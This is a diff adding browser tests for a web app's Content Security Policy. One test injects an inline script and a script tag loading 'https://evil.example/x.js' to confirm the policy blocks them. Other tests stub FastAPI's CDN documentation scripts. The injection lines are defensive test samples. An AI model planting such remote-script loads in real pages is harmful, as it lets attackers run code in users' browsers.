@@ -188,3 +188,50 @@ def test_chain_explorer_shows_the_full_chain_second(server, watched):
     assert watched.page.inner_text("p.error") == "no actor is labelled 'Atlantis'"
     assert watched.page.url == server + "/chain?from=Atlantis&to=&limit=&lang=en"
     assert watched.errors == ["Failed to load resource: the server responded with a status of 404 (Not Found)"]
+    assert watched.violations == []
+
+
+def test_the_policy_refuses_a_script_slipped_into_a_page(server, watched):
+    """What the policy is for: a script written into a page does not run, and the recorder sees it."""
+    watched.page.goto(server + "/?lang=en")
+    watched.page.evaluate("""() => { const s = document.createElement('script');
+        s.textContent = 'window.pwned = true'; document.body.appendChild(s);
+        const t = document.createElement('script'); t.src = 'https://evil.example/x.js'; document.body.appendChild(t);
+        document.body.insertAdjacentHTML('beforeend', '<p id=styled style="color: red">x</p>'); }""")
+    assert watched.page.evaluate("window.pwned") is None
+    assert watched.page.evaluate("getComputedStyle(document.getElementById('styled')).color") != "rgb(255, 0, 0)"
+    events = sorted(v for v in watched.violations if "Content Security Policy" not in v)
+    assert [v.split(" ")[:2] for v in events] == [["script-src-elem", "https://evil.example/x.js"],
+                                                  ["script-src-elem", "inline"], ["style-src-attr", "inline"]]
+    with watched.page.expect_event("requestfailed") as failed:  # the browser never sends it
+        watched.page.evaluate("""() => { const t = document.createElement('script'); t.src = 'https://evil.example/y.js';
+            document.body.appendChild(t); }""")
+    assert (failed.value.url, failed.value.failure) == ("https://evil.example/y.js", "csp")
+
+
+#: Stand-ins for the CDN files FastAPI's /docs and /redoc load (the test machine is offline): each defines
+#: the global the page expects and does what the real one needs the policy to allow (ReDoc writes <style>
+#: elements and starts a blob: worker).
+_CDN = {
+    "swagger-ui-bundle.js": "window.SwaggerUIBundle = function (options) { return { url: options.url }; };"
+                            "SwaggerUIBundle.presets = { apis: {} }; SwaggerUIBundle.SwaggerUIStandalonePreset = {};",
+    "redoc.standalone.js": "window.Redoc = { standIn: true }; var s = document.createElement('style');"
+                           "s.textContent = 'redoc { display: block; }'; document.head.appendChild(s);"
+                           "new Worker(URL.createObjectURL(new Blob(['0'], { type: 'text/javascript' })));",
+}
+
+
+def _cdn(route) -> None:
+    name = route.request.url.rsplit("/", 1)[-1]
+    media = "text/javascript" if name.endswith(".js") else "text/css" if "css" in name else "image/png"
+    route.fulfill(status=200, content_type=media, body=_CDN.get(name, ""))
+
+
+def test_docs_pages_run_their_own_scripts_under_their_policy(server, watched):
+    watched.page.route(lambda url: not url.startswith(server), _cdn)
+    watched.page.goto(server + "/docs", wait_until="networkidle")
+    assert watched.page.evaluate("typeof ui") == "object"  # the page's inline script ran
+    watched.page.goto(server + "/redoc", wait_until="networkidle")
+    assert watched.page.evaluate("typeof Redoc") == "object"
+    assert watched.page.evaluate("getComputedStyle(document.body).marginTop") == "0px"  # its inline <style>
+    assert (watched.violations, watched.errors) == ([], [])
